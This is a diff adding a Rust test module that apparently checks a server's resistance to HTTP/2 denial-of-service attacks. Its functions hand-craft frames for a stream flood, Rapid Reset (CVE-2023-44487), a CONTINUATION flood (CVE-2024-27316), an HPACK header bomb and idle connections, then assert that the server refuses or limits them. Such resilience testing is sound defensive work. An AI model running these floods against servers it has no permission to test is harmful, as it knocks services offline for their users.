@@ -1,0 +1,153 @@
+//! Attacks over HTTP/2 (RFC 9113), frame by frame: no library would send these.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use anyhow::ensure;
+use futures::future::try_join_all;
+
+use crate::attacks::{End, connect, send};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+/// Connections of each attack.
+const CONNECTIONS: usize = 10;
+
+/// Types of frames.
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const GOAWAY: u8 = 7;
+const CONTINUATION: u8 = 9;
+
+/// Flags of HEADERS.
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
+    let mut frame = vec![len[1], len[2], len[3], kind, flags];
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// A name or value, not compressed.
+fn text(text: &str) -> Vec<u8> {
+    let len = u8::try_from(text.len()).ok().filter(|len| *len < 127).expect("a short text");
+    [&[len], text.as_bytes()].concat()
+}
+
+/// The fields that every request has (HPACK, RFC 7541): from the static table, `path` and `host` spelt out.
+fn request(method: u8, path: &str) -> Vec<u8> {
+    [&[method, 0x86, 0x04][..], &text(path), &[0x01], &text("x")].concat()
+}
+
+const GET: u8 = 0x82;
+const POST: u8 = 0x83;
+
+fn start() -> Vec<u8> {
+    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
+}
+
+/// The frames of an answer: type and payload.
+fn frames(mut bytes: &[u8]) -> Vec<(u8, Vec<u8>)> {
+    let mut frames = Vec::new();
+    while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = bytes {
+        let len = u32::from_be_bytes([0, *a, *b, *c]) as usize;
+        let Some((payload, rest)) = rest.split_at_checked(len) else { break };
+        frames.push((*kind, payload.to_vec()));
+        bytes = rest;
+    }
+    frames
+}
+
+async fn attack(address: SocketAddr, from: u8, parts: impl Fn() -> Vec<Vec<u8>>) -> anyhow::Result<Vec<End>> {
+    let one = async || {
+        let parts = std::iter::once(start()).chain(parts());
+        send(connect(address, from).await?, parts, Duration::ZERO).await
+    };
+    try_join_all((0..CONNECTIONS).map(|_| one())).await
+}
+
+fn count(end: &End, kind: u8) -> usize {
+    frames(&end.answer).iter().filter(|(of, _)| *of == kind).count()
+}
+
+/// Ids of a client's streams.
+fn streams(count: u32) -> impl Iterator<Item = u32> {
+    (0..count).map(|number| 2 * number + 1)
+}
+
+/// Ten thousand requests at once, whose bodies never come.
+pub(crate) async fn too_many_streams(address: SocketAddr) -> anyhow::Result<()> {
+    let fields = request(POST, "/cart/7b6fc97b-9d5f-4ac9-8a62-7cfd8b4eb0ff");
+    let parts = || vec![streams(10_000).flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &fields)).collect()];
+    for end in attack(address, 12, parts).await? {
+        let (refused, ended) = (count(&end, RST_STREAM), count(&end, GOAWAY));
+        ensure!(refused > 0 || ended > 0, "nothing was refused: {} frames", frames(&end.answer).len());
+        let answered = count(&end, HEADERS);
+        ensure!(answered <= 1_000, "{answered} of 10,000 requests were worked on at once");
+    }
+    Ok(())
+}
+
+/// Requests that are taken back at once (CVE-2023-44487).
+pub(crate) async fn rapid_reset(address: SocketAddr) -> anyhow::Result<()> {
+    let fields = request(GET, "/cart/7b6fc97b-9d5f-4ac9-8a62-7cfd8b4eb0ff");
+    let parts = || {
+        let one = |stream| {
+            let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields);
+            both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+            both
+        };
+        let all: Vec<_> = streams(50_000).flat_map(one).collect();
+        all.chunks(65_536).map(<[u8]>::to_vec).collect()
+    };
+    let ends = attack(address, 13, parts).await?;
+    let told = ends.iter().filter(|end| count(end, GOAWAY) > 0).count();
+    // All were ended, or `attack` had failed; who still sends may miss why.
+    ensure!(told > 0 || ends.iter().all(|end| end.after < Duration::from_secs(10)), "{ends:?}");
+    Ok(())
+}
+
+/// A head that goes on in frame after frame (CVE-2024-27316).
+pub(crate) async fn endless_head(address: SocketAddr) -> anyhow::Result<()> {
+    let field = [&[0x00][..], &text("x-a"), &text(&"a".repeat(100))].concat();
+    let part = field.repeat(150);
+    let parts = || {
+        let head = frame(HEADERS, END_STREAM, 1, &request(GET, "/health/live"));
+        std::iter::once(head).chain((0..5_000).map(|_| frame(CONTINUATION, 0, 1, &part))).collect()
+    };
+    attack(address, 14, parts).await.map(|_| ())
+}
+
+/// A small head that unfolds to a large one: a field is named once, and then pointed at again and again.
+pub(crate) async fn header_bomb(address: SocketAddr) -> anyhow::Result<()> {
+    let indexed = [&[0x40][..], &text("x-a"), &text(&"a".repeat(126))].concat();
+    let fields = [request(GET, "/health/live"), indexed, vec![0x80 | 62; 15_000]].concat();
+    let parts =
+        || streams(100).map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields)).collect::<Vec<_>>();
+    for end in attack(address, 15, parts).await? {
+        // 2 MB of fields each: no such request is let through.
+        let ok =
+            frames(&end.answer).iter().filter(|(kind, head)| *kind == HEADERS && head.first() == Some(&0x88)).count();
+        ensure!(ok == 0, "{ok} requests came through");
+    }
+    Ok(())
+}
+
+/// A connection without a request, or with none any more.
+pub(crate) async fn nothing(address: SocketAddr) -> anyhow::Result<()> {
+    attack(address, 16, Vec::new).await?;
+    let once = || vec![frame(HEADERS, END_HEADERS | END_STREAM, 1, &request(GET, "/health/live"))];
+    for end in attack(address, 16, once).await? {
+        ensure!(count(&end, HEADERS) == 1, "a request was not answered");
+        ensure!(
+            end.after >= Duration::from_millis(1_400),
+            "a connection that was used was closed after {:?}",
+            end.after
+        );
+    }
+    Ok(())
+}
